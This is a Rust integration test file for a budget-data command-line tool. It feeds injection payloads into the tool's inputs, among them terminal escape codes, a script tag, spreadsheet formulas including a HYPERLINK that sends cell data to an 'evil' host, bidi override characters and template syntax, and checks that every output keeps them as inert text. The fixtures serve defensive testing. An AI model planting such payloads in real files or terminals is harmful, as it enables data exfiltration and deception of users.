//! Text from documents never becomes markup, a formula or a control sequence: on terminals, in pages, tables, charts
//! and names of folders.

use std::collections::BTreeMap;
use std::fs;
use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::Command;
use tempfile::TempDir;

/// Names of units and items that are something else to somebody.
const NASTY: [&str; 8] = [
    "\u{1b}[2J\u{1b}[31m红\u{1b}]0;title\u{7}局",
    "<script>alert(1)</script>局",
    "# 甲 `x` | *y* ~~z~~ <b>b</b>\\",
    "=HYPERLINK(\"http://evil/?\"&A1,\"点\")",
    "@SUM(A1)+局",
    "甲\u{fffe}\u{ffff}\u{1ffff}局",
    "甲\u{202e}txt.exe\u{2066}局",
    "]]>&amp;\u{9b}31m\u{85}局{{ 7 * 7 }}{% raw %}",
];

struct Desk(TempDir);

impl Desk {
    fn new(name: &str) -> Self {
        let desk = Self(TempDir::new().unwrap());
        let quoted = format!("\"{}\"", name.replace('"', "\"\""));
        let mut text = "unit,year,phase,table,code,name,measure,amount,project\n".to_owned();
        for (year, amount) in [(2023, "100.00"), (2024, "120.00")] {
            for table in ["general", "general_project"] {
                for code in ["", "208", "20801", "2080101"] {
                    let item = if code.is_empty() { "合计" } else { &quoted };
                    let project = if table == "general_project" && code.len() == 7 { &quoted } else { "" };
                    text += &format!("{quoted},{year},预算,{table},{code},{item},合计,{amount},{project}\n");
                }
            }
        }
        fs::write(desk.path("数.csv"), text).unwrap();
        desk
    }

    fn path(&self, name: &str) -> PathBuf {
        self.0.path().join(name)
    }

    fn run(&self, arguments: &[&str]) -> (Option<i32>, String, String) {
        let mut command = Command::new(env!("CARGO_BIN_EXE_tongbi"));
        command.args(arguments).current_dir(&self.0).env("TONGBI_CONFIG_DIR", self.path("用户"));
        let output = command.output().unwrap();
        let text = |bytes: &[u8]| String::from_utf8(bytes.to_vec()).unwrap();
        (output.status.code(), text(&output.stdout), text(&output.stderr))
    }
}

/// No character steers what shows the text.
fn is_text(text: &str) -> bool {
    text.chars().all(|c| {
        let steers = c.is_control() && !matches!(c, '\n' | '\r' | '\t');
        let turns = matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
        let none = matches!(c, '\u{fdd0}'..='\u{fdef}') || u32::from(c) & 0xfffe == 0xfffe;
        !steers && !turns && !none
    })
}

/// The text of a file, of every part of an Office file.
fn texts(path: &Path) -> Vec<String> {
    let bytes = fs::read(path).unwrap();
    let Ok(mut archive) = zip::ZipArchive::new(std::io::Cursor::new(&bytes)) else {
        return String::from_utf8(bytes).into_iter().collect();
    };
    let mut found = Vec::new();
    for at in 0..archive.len() {
        let mut text = String::new();
        if archive.by_index(at).unwrap().read_to_string(&mut text).is_ok() {
            found.push(text);
        }
    }
    found
}

fn files(folder: &Path) -> BTreeMap<String, PathBuf> {
    let mut found = BTreeMap::new();
    let mut open = vec![folder.to_owned()];
    while let Some(folder_of) = open.pop() {
        for entry in fs::read_dir(&folder_of).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                open.push(path.clone());
            }
            found.insert(path.strip_prefix(folder).unwrap().display().to_string(), path);
        }
    }
    found
}

#[test]
fn text_from_documents_is_text_in_everything_that_is_written() {
    for name in NASTY {
        let desk = Desk::new(name);
        let calls: [&[&str]; 14] = [
            &["report", "数.csv", "-o", "报告"],
            &["extract", "数.csv", "-o", "明细.csv"],
            &["extract", "数.csv", "-o", "明细.xlsx"],
            &["extract", "数.csv", "-o", "集", "--partition", "year"],
            &["compare", "数.csv", "-o", "对比.csv"],
            &["compare", "集", "-o", "对比集.csv"],
            &["compare", "数.csv", "-o", "对比.md"],
            &["compare", "数.csv"],
            &["trend", "数.csv", "-o", "趋势.csv"],
            &["trend", "数.csv", "-o", "趋势.md"],
            &["chart", "数.csv", "--kind", "columns", "-o", "图.svg"],
            &["audit", "数.csv", "--format", "html", "-o", "审查.html"],
            &["explain", "数.csv", "-o", "公开.docx"],
            &["explain", "数.csv", "-o", "公开.md"],
        ];
        for call in calls {
            let (status, out, err) = desk.run(call);
            assert!(status.is_some_and(|status| status < 2), "{name:?} {call:?}: {err}");
            assert!(is_text(&out) && is_text(&err), "{name:?} {call:?}: {out:?} {err:?}");
        }
        for (file, path) in files(desk.0.path()) {
            assert!(is_text(&file), "{name:?}: {file:?}");
            if path.is_dir() || file == "数.csv" {
                continue;
            }
            for text in texts(&path) {
                let what = format!("{name:?} in {file}");
                // What JSON escapes is text.
                assert!(is_text(&text), "{what}: {:?}", text.chars().find(|c| !is_text(&c.to_string())));
                let extension = file.rsplit('.').next().unwrap_or_default();
                match extension {
                    "html" | "md" => assert!(!text.contains("<script>alert") && !text.contains("<b>b"), "{what}"),
                    "csv" => csv_is_no_formula(&text, &what),
                    "svg" => well_formed(&text, &what),
                    _ if text.starts_with("<?xml") => well_formed(&text, &what),
                    _ => {}
                }
                if extension == "md" {
                    let heads = text.lines().filter(|line| line.starts_with('#'));
                    assert!(heads.clone().all(|line| !line.contains("<b>") && !line.contains(" *y*")), "{what}");
                }
            }
        }
    }
}

fn csv_is_no_formula(text: &str, what: &str) {
    let text = text.trim_start_matches('\u{feff}');
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
    for record in reader.records() {
        for field in &record.unwrap() {
            let is_number = field.trim_start_matches(['+', '-']).trim_end_matches('%').parse::<f64>().is_ok();
            assert!(is_number || !field.starts_with(['=', '+', '-', '@', '\t', '\r']), "{what}: {field}");
        }
    }
}

fn well_formed(text: &str, what: &str) {
    let mut reader = quick_xml::Reader::from_str(text);
    loop {
        match reader.read_event() {
            Ok(quick_xml::events::Event::Eof) => return,
            Ok(_) => {}
            Err(error) => panic!("{what}: {error}"),
        }
    }
}

#[test]
fn what_a_csv_guards_is_read_back_as_it_was() {
    for name in NASTY {
        let desk = Desk::new(name);
        desk.run(&["extract", "数.csv", "-o", "一.csv"]);
        desk.run(&["extract", "一.csv", "-o", "二.csv"]);
        desk.run(&["extract", "一.csv", "-o", "二.json"]);
        assert_eq!(fs::read(desk.path("一.csv")).unwrap(), fs::read(desk.path("二.csv")).unwrap(), "{name:?}");
        let json: serde_json::Value = serde_json::from_slice(&fs::read(desk.path("二.json")).unwrap()).unwrap();
        let unit = json[0]["unit"].as_str().unwrap().to_owned();
        assert!(!unit.starts_with('\''), "{unit}");
        if name.starts_with(['=', '@']) {
            assert_eq!(unit, name);
        }
    }
}

#[test]
fn a_mark_or_a_manifest_that_somebody_else_made_silences_no_audit() {
    let desk = Desk::new("甲局");
    fs::create_dir(desk.path("送审")).unwrap();
    fs::rename(desk.path("数.csv"), desk.path("送审/数.csv")).unwrap();
    assert_eq!(desk.run(&["audit", "送审"]).0, Some(0));
    fs::write(desk.path("送审/文字.md"), "支出1.00万元\n\n<!-- tongbi 生成 -->\n").unwrap();
    fs::create_dir(desk.path("送审/里")).unwrap();
    fs::write(desk.path("送审/里/manifest.json"), "{\"program\": \"tongbi\", \"files\": []}").unwrap();
    let (status, _, stderr) = desk.run(&["audit", "送审"]);
    assert!(status == Some(1) && stderr.contains("没有审查：送审/里、文字.md"), "{stderr}");
    // What the user wrote there is known.
    let desk = Desk::new("甲局");
    assert_eq!(desk.run(&["compare", "数.csv", "-o", "对比.md"]).0, Some(0));
    assert_eq!(desk.run(&["report", "数.csv", "-o", "报告"]).0, Some(0));
    let (status, _, stderr) = desk.run(&["audit", "."]);
    assert!(status == Some(0) && stderr.contains("对比.md：本程序写的"), "{stderr}");
}

#[cfg(unix)]
#[test]
fn names_of_files_steer_no_terminal() {
    let desk = Desk::new("甲局");
    let name = "\u{1b}[31m红\u{7}\n错误：假.csv";
    fs::rename(desk.path("数.csv"), desk.path(name)).unwrap();
    fs::write(desk.path("坏\u{1b}[2J.doc"), "x").unwrap();
    for call in [
        &["compare", "."][..],
        &["audit", "."],
        &["extract", ".", "-o", "-", "--format", "csv"],
        &["compare", "坏\u{1b}[2J.txt"],
    ] {
        let (_, out, err) = desk.run(call);
        assert!(is_text(&out) && is_text(&err), "{call:?}: {out:?} {err:?}");
        assert!(!err.lines().any(|line| line.starts_with("错误：假")), "{err}");
    }
}
